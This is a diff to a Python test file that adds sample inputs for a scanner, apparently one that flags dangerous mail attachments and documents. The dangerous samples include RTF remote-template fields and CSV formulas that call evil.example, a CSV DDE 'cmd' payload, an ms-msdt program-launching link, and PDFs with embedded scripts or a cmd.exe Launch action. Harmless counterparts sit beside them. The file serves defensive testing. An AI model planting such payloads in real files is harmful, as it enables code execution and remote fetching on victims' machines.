@@ -277,4 +277,44 @@ HARMLESS = {
     "a list with signs": (b"Change,Sum\n-5%,+3\n=A1+B1,alice | bob!\n- Ann | Bo\n", "csv"),
 }
 
+CARRIED = {
+    "x.rtf": b"{\\rtf1{\\*\\template http://evil.example/x}}",
+    "field.rtf": b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/x"}}}',
+    "x.slk": b"ID;P\nC;X1;Y1;EEXEC(1)",
+    "x.iqy": b"WEB\n1\nhttp://evil.example",
+    "x.library-ms": b"<x/>",
+    "x.search-ms": b"x",
+    "x.desktop": b"x",
+    "x.pub": b"x",
+    "x.7z": b"x",
+    "x.rar": b"x",
+    "photo.jpg": b"Rar!\x1a\x07\x00",
+    "x.tar.gz": b"\x1f\x8b\x08",
+}
+ACTIVE |= {f"{name} in a mail": (mail(name, data), "eml", name) for name, data in CARRIED.items()}
+ACTIVE |= {
+    "a page in a PDF": (pdf_carrying("x.html", b"<script>1</script>"), "pdf", "attachment"),
+    "a document in a PDF": (pdf_carrying("x.docx", word()), "pdf", "attachment"),
+    "a PDF with a script in a PDF": (pdf_carrying("x.pdf", pdf(OpenAction=JS)), "pdf", "script"),
+    "a link that starts a program": (
+        word(**{"word/_rels/document.xml.rels": linked("hyperlink", "ms-msdt:/id PCWDiagnostic")}),
+        "docx",
+        "link that starts a program",
+    ),
+    "a formula that fetches": (b'a;b\n=IMPORTXML("http://evil.example");1\n', "csv", "formula"),
+    "a formula that leads elsewhere": (b'a;b\n=HYPERLINK("http://evil.example");1\n', "csv", "formula"),
+    "a formula with a wide sign": ("a;b\n＝cmd|'/C calc'!A0;1\n".encode(), "csv", "formula"),
+}
+HARMLESS |= {
+    "a PDF in a PDF": (pdf_carrying("annex.pdf", pdf()), "pdf"),
+    "a link to a colleague's folder": (
+        word(**{"word/_rels/document.xml.rels": linked("hyperlink", r"file:///\\files\policy\waste.docx")}),
+        "docx",
+    ),
+    "rich text with one's own template": (
+        mail("letter.rtf", b"{\\rtf1{\\*\\template C:\\\\Templates\\\\Letter.dotm}}"),
+        "eml",
+    ),
+}
+
 LAUNCHING = pdf(OpenAction=act("Launch", F=pikepdf.String("cmd.exe")))
